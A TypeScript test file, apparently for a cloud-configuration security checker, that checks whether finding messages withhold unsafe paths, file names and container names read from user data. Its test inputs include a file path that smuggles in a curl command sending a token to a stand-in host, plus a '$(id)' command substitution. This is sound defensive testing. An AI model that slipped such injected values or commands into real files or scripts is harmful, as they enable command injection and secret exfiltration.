// Paths, file names and names taken from user data follow the rule values follow (pack/messages.ts): a message prints
// them only when they are short plain tokens, as ordinary paths and names are; anything else is withheld. Each case
// puts hostile text where a name or path is read (write_files path, redirect and tee targets, cp source, MIME content
// type, cloud-init part file name, container name) and checks the finding still fires, without that text.
import { describe, it } from "node:test";
import * as assert from "node:assert/strict";
import { judgeProps } from "../helpers";
import { NAME_WITHHELD, shownName } from "../../providers/shown";

const INSTANCE = "aws:ec2/instance:Instance";
const HOSTILE = "/etc/kubernetes/kubelet config; curl http://x -H 'token: s3cr3t'.yaml";
const LONG = `/etc/${"a".repeat(120)}.conf`;
const CONFIG = "kind: KubeletConfiguration\napiVersion: kubelet.config.k8s.io/v1beta1\nreadOnlyPort: 10255\n";

function messages(type: string, props: Record<string, unknown>): string[] {
    return judgeProps("kubelet-read-only-port-disabled", type, props).map((f) => f.message);
}

function writeFiles(path: string): string {
    return [
        "#cloud-config",
        "write_files:",
        `- path: ${JSON.stringify(path)}`,
        "  content: |",
        ...CONFIG.trimEnd()
            .split("\n")
            .map((l) => `    ${l}`),
        "runcmd:",
        `- [kubelet, ${JSON.stringify(`--config=${path}`)}]`,
        "",
    ].join("\n");
}

describe("names and paths from user data in messages", () => {
    it("shownName keeps ordinary paths and names and withholds the rest", () => {
        assert.equal(shownName("/etc/kubernetes/kubelet/config.yaml"), "/etc/kubernetes/kubelet/config.yaml");
        assert.equal(shownName("text/x-shellscript"), "text/x-shellscript");
        assert.equal(shownName("kube-apiserver"), "kube-apiserver");
        for (const s of [HOSTILE, LONG, "a b", "$(id)", "x\ny", ""]) assert.equal(shownName(s), NAME_WITHHELD, s);
    });

    it("an ordinary write_files path is named in the finding", () => {
        const m = messages(INSTANCE, { userData: writeFiles("/etc/kubernetes/kubelet.yaml") });
        assert.equal(m.length, 1);
        assert.match(m[0], /write_files \/etc\/kubernetes\/kubelet\.yaml/);
    });

    for (const [what, path] of [
        ["shell syntax and a token", HOSTILE],
        ["a path longer than a plain token", LONG],
    ]) {
        it(`a write_files path with ${what} is withheld, and the finding still made`, () => {
            const m = messages(INSTANCE, { userData: writeFiles(path) });
            assert.equal(m.length, 1, "the kubelet it configures is still judged");
            assert.ok(!m[0].includes("s3cr3t") && !m[0].includes("curl") && !m[0].includes("a".repeat(100)), m[0]);
            assert.ok(m[0].includes(NAME_WITHHELD), m[0]);
        });
    }

    it("redirect, tee and cp targets with hostile names are withheld", () => {
        const script = [
            "#!/bin/bash",
            `cat > '/tmp/a b token=s3cr3t' <<'EOF'`,
            CONFIG.trimEnd(),
            "EOF",
            `cat '/tmp/a b token=s3cr3t' | tee '/tmp/c d s3cr3t'`,
            `cp '/tmp/c d s3cr3t' /etc/kubernetes/kubelet.yaml`,
            "kubelet --config=/etc/kubernetes/kubelet.yaml",
            "",
        ].join("\n");
        const m = messages(INSTANCE, { userData: script });
        assert.equal(m.length, 1);
        assert.ok(!m[0].includes("s3cr3t"), m[0]);
        assert.match(m[0], /\/etc\/kubernetes\/kubelet\.yaml/, "the plain target is still named");
    });

    it("a MIME content type and a cloud-init part file name are withheld when not plain", () => {
        const mime = [
            "MIME-Version: 1.0",
            'Content-Type: multipart/mixed; boundary="//"',
            "",
            "--//",
            'Content-Type: text/x-shellscript; x="s3cr3t value"',
            "",
            "#!/bin/bash",
            "kubelet --read-only-port=10255",
            "--//--",
            "",
        ].join("\n");
        const m = messages(INSTANCE, { userData: mime });
        assert.equal(m.length, 1);
        assert.ok(!m[0].includes("s3cr3t"), m[0]);
        const parts = messages("cloudinit:index/config:Config", {
            parts: [
                {
                    contentType: "text/x-shellscript",
                    filename: "boot s3cr3t.sh",
                    content: "#!/bin/bash\nkubelet --read-only-port=10255\n",
                },
            ],
        });
        assert.equal(parts.length, 1);
        assert.ok(!parts[0].includes("s3cr3t") && parts[0].includes(NAME_WITHHELD), parts[0]);
    });

    it("a container name that is not a plain name is withheld", () => {
        const pod = {
            metadata: { name: "kube-apiserver", namespace: "kube-system" },
            spec: {
                containers: [
                    {
                        name: "api server s3cr3t",
                        image: "registry.k8s.io/kube-apiserver:v1.31.2",
                        command: ["kube-apiserver", "--profiling=true"],
                    },
                ],
            },
        };
        const m = judgeProps("kube-apiserver-profiling-disabled", "kubernetes:core/v1:Pod", pod).map((f) => f.message);
        assert.equal(m.length, 1);
        assert.ok(!m[0].includes("s3cr3t") && m[0].includes(NAME_WITHHELD), m[0]);
    });
});
